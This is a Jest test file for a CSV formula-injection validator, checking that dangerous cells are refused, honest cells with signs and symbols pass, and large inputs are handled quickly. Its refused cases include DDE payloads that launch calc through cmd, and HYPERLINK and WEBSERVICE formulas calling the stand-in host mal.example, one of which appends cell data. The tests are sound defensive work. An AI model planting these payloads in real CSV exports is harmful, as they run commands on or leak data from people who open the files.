import { describe, expect, it } from '@jest/globals';
import { InvalidInput } from '@passerelle/problems';
import { assertNoFormulas } from './csv-formulas.js';

const check = (text: string) => () => assertNoFormulas(Buffer.from(text));

describe('a CSV file', () => {
  it.each([
    '=1+1',
    "Nom;=cmd|'/C calc'!A0",
    "a\n-2+3+cmd|' /C calc'!A0",
    "Martin;+cmd|' /C calc'!A0;12",
    'a,"=HYPERLINK(""http://mal.example?""&A1)"',
    'x\t@SUM(1+9)*cmd',
    '\ufeff=1',
    'a, +WEBSERVICE("http://mal.example")',
    '＝1+1',
    'Prix;-1,=2',
  ])('with a formula is refused: %j', (text) => {
    expect(check(text)).toThrow(InvalidInput);
  });

  it.each([
    'Température;-5;+3,5;-12,50 €;-10 %',
    'Téléphone,+33(0)6 12 34 56 78',
    '- pose de barres (2 h);+ 3 personne(s)',
    'x,@anne;-',
    "'=1+1;a=b;5-3",
    'Le calcul : 1 = 1',
  ])('with honest cells is kept: %j', (text) => {
    expect(check(text)).not.toThrow();
  });

  it('of ten megabytes takes a moment, whatever it holds', () => {
    for (const shape of ['-', '-,', '-;', '-a1', ',', '"', 'a|', '-|']) {
      const bytes = Buffer.from(shape.repeat(Math.floor(10_000_000 / shape.length)));
      const before = process.cpuUsage();
      try {
        assertNoFormulas(bytes);
      } catch (error) {
        expect(error).toBeInstanceOf(InvalidInput);
      }
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1_000).toBeLessThan(2_000);
    }
  });
});
